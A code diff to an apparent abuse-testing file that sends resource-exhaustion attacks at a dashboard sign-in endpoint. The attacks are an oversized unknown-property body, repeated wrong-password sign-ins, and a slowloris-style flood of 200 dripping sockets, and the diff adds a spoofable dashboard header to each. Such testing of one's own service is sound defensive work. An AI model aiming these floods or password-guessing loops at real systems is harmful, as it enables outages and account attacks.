@@ -4,6 +4,8 @@ import { type Attack, send, sendJson } from "./attack.ts";
 /* Small requests that make much work, with no key or with the attacker's own. */
 
 const MB = 1024 * 1024;
+/** What the dashboard's own requests say, and anybody can. */
+const FROM_DASHBOARD = { "X-Dashboard": "1" };
 
 const unknownProperties = JSON.stringify({
   email: "a@example.com",
@@ -35,7 +37,7 @@ export const bodies: Attack[] = [
   {
     name: "sign-in with 26,000 unknown properties, no key",
     atOnce: 8,
-    blow: (target) => sendJson(target, "POST", "/dashboard/api/session", unknownProperties),
+    blow: (target) => sendJson(target, "POST", "/dashboard/api/session", unknownProperties, FROM_DASHBOARD),
   },
   {
     name: "sign-in with wrong passwords, no key",
@@ -46,6 +48,7 @@ export const bodies: Attack[] = [
         "POST",
         "/dashboard/api/session",
         JSON.stringify({ email: `${count}@example.com`, password: "wrong-password" }),
+        FROM_DASHBOARD,
       ),
   },
   {
@@ -62,11 +65,11 @@ export const bodies: Attack[] = [
     async blow({ url, signal }) {
       const { hostname, port } = new URL(url);
       const head =
-        "POST /dashboard/api/session HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 200000\r\n\r\n";
+        "POST /dashboard/api/session HTTP/1.1\r\nHost: a\r\nX-Dashboard: 1\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n";
       const sockets = Array.from({ length: 200 }, () => {
         const socket = connect(Number(port), hostname).on("error", () => {});
         socket.write(head);
-        socket.write(" ".repeat(100_000));
+        socket.write(" ".repeat(2_000));
         return socket;
       });
       const dripping = setInterval(() => {
